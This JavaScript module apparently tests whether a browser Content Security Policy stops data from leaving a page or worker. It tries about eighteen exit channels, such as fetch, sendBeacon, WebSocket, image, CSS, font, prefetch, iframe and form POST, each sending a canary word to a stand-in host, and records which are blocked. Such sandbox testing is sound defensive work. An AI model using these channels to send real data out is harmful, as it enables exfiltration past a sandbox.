// Every way out that we know, really tried: from the page, and from a worker made as the engine's is.
//
// The two functions stand alone: their text is also the program of that worker. An attempt counts as
// stopped when the browser names the rule of the policy that stopped it, or throws the error it keeps
// for that; as out when something came back. That an address cannot be reached proves neither, so
// what nobody judged in time is reported as unknown.

/**
 * The ways, as `{ id, name, places, run }`: `run(id, got)` takes it and calls `got` when something
 * came back; what it returns undoes it. Each carries a made-up word and its own id, by which the
 * browser's report is told from that of another way.
 */
export function waysOut(base) {
  const other = (id) => `https://regulars.invalid/?word=marmalade&way=${id}`;
  const own = (id) => `${base}?word=marmalade&way=${id}`;
  const inPage = typeof document === "object";
  // A refusal is expected; unheard it would be an error of the page.
  const hear = (promise, got) => void promise.then(got, () => {});
  const element = (name, attributes) => (id, got) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes(id))) made.setAttribute(key, value);
    made.hidden = true;
    // A frame is loaded even when it is refused: with nothing.
    if (name !== "iframe") made.onload = got;
    document.body.append(made);
    return () => made.remove();
  };
  const font = (address) => (id, got) => hear(new FontFace("none", `url("${address(id)}")`).load(), got);
  const both = ["page", "worker"];
  const page = ["page"];
  return [
    { id: "fetch_other", name: "fetch", places: both, run: (id, got) => hear(fetch(other(id), { mode: "no-cors" }), got) },
    { id: "fetch_own", name: "fetch", places: both, run: (id, got) => hear(fetch(own(id)), got) },
    {
      id: "xhr",
      name: "XMLHttpRequest",
      places: both,
      run(id, got) {
        const request = new XMLHttpRequest();
        request.onload = got;
        request.open("GET", own(id));
        request.send();
        return () => request.abort();
      },
    },
    { id: "beacon", name: "sendBeacon", places: page, run: (id) => void navigator.sendBeacon(other(id)) },
    {
      id: "web_socket",
      name: "WebSocket",
      places: both,
      run(id, got) {
        const socket = new WebSocket(other(id).replace("https", "wss"));
        socket.onopen = got;
        return () => socket.close();
      },
    },
    {
      id: "event_source",
      name: "EventSource",
      places: both,
      run(id, got) {
        const source = new EventSource(own(id));
        source.onopen = got;
        return () => source.close();
      },
    },
    { id: "image", name: "img", places: page, run: element("img", (id) => ({ src: other(id) })) },
    {
      id: "css_image",
      name: "CSS url()",
      places: page,
      run(id) {
        const made = document.createElement("div");
        made.style.cssText = "position: fixed; width: 1px; height: 1px; opacity: 0";
        made.style.setProperty("background-image", `url("${other(id)}")`);
        document.body.append(made);
        return () => made.remove();
      },
    },
    { id: "font", name: "@font-face", places: both, run: font(own) },
    {
      id: "style_sheet",
      name: "link stylesheet",
      places: page,
      run: element("link", (id) => ({ rel: "stylesheet", href: own(id) })),
    },
    { id: "prefetch_other", name: "link prefetch", places: page, run: element("link", (id) => ({ rel: "prefetch", href: other(id) })) },
    { id: "prefetch_own", name: "link prefetch", places: page, run: element("link", (id) => ({ rel: "prefetch", href: own(id) })) },
    { id: "frame", name: "iframe", places: page, run: element("iframe", (id) => ({ src: other(id) })) },
    {
      id: "script",
      name: "script",
      places: both,
      run: inPage
        ? element("script", (id) => ({ src: own(id) }))
        : (id, got) => {
            importScripts(own(id));
            got();
          },
    },
    { id: "module", name: "import()", places: both, run: (id, got) => hear(import(own(id)), got) },
    {
      id: "eval",
      name: "new Function",
      places: both,
      run(id, got) {
        new Function("return 1")();
        got();
      },
    },
    {
      id: "worker",
      name: "Worker",
      places: both,
      run(id) {
        const worker = new Worker(own(id));
        return () => worker.terminate();
      },
    },
    {
      id: "form",
      name: "form",
      places: page,
      run(id) {
        // Into a frame: if it were not stopped, it would lead away from the page.
        const frame = document.createElement("iframe");
        frame.name = "attempt";
        frame.hidden = true;
        const form = document.createElement("form");
        form.method = "post";
        form.action = other(id);
        form.target = frame.name;
        form.hidden = true;
        document.body.append(frame, form);
        form.submit();
        return () => {
          form.remove();
          frame.remove();
        };
      },
    },
  ];
}

/**
 * Takes every way of this place at once and reports each as `{ place, id, outcome, by }`: `stopped`
 * by a rule, `out`, `absent` where the browser has no such way, `unknown`. A later report of the same
 * way replaces the earlier one: there are two policies, and each speaks for itself.
 */
export async function takeWaysOut(ways, report) {
  const PATIENCE_MS = 5000;
  const LATE_REPORTS_MS = 100;
  const place = typeof document === "object" ? "page" : "worker";
  const target = place === "page" ? document : self;
  const here = ways.filter((way) => way.places.includes(place));
  const rest = (time) => new Promise((done) => setTimeout(done, time));
  const undo = [];
  // What is settled by the id of a way that is not yet.
  const open = new Map();

  const settle = (id, outcome, by = "") => {
    report({ place, id, outcome, by });
    open.get(id)?.();
    open.delete(id);
  };
  const rule = ({ originalPolicy, effectiveDirective }) => {
    const directives = originalPolicy.split(";").map((text) => text.trim());
    const names = [effectiveDirective, effectiveDirective.replace(/-(elem|attr)$/, ""), "default-src"];
    const rules = names.map((name) => directives.find((text) => text.split(" ")[0] === name));
    return rules.find((text) => text !== undefined) ?? effectiveDirective;
  };
  // Browsers shorten the address of a frame, and text run as a program has none.
  const addressless = { "frame-src": "frame", "script-src": "eval", "form-action": "form" };
  const onViolation = (event) => {
    const id = /[?&]way=(\w+)/.exec(event.blockedURI)?.[1] ?? addressless[event.effectiveDirective];
    if (here.some((way) => way.id === id)) settle(id, "stopped", rule(event));
  };
  const take = async (way) => {
    const settled = new Promise((done) => open.set(way.id, done));
    let refusal;
    try {
      const taken = way.run(way.id, () => open.has(way.id) && settle(way.id, "out"));
      if (taken) undo.push(taken);
    } catch (error) {
      if (error instanceof ReferenceError) settle(way.id, "absent");
      // The report of the policy, which names the rule, comes after the error.
      if (error.name === "EvalError" || error.name === "SecurityError") refusal = error.name;
    }
    await Promise.race([settled, rest(PATIENCE_MS)]);
    if (!open.has(way.id)) return;
    if (refusal) settle(way.id, "stopped", refusal);
    else settle(way.id, "unknown");
  };

  target.addEventListener("securitypolicyviolation", onViolation);
  await Promise.all(here.map(take));
  await rest(LATE_REPORTS_MS);
  target.removeEventListener("securitypolicyviolation", onViolation);
  for (const back of undo) back();
}
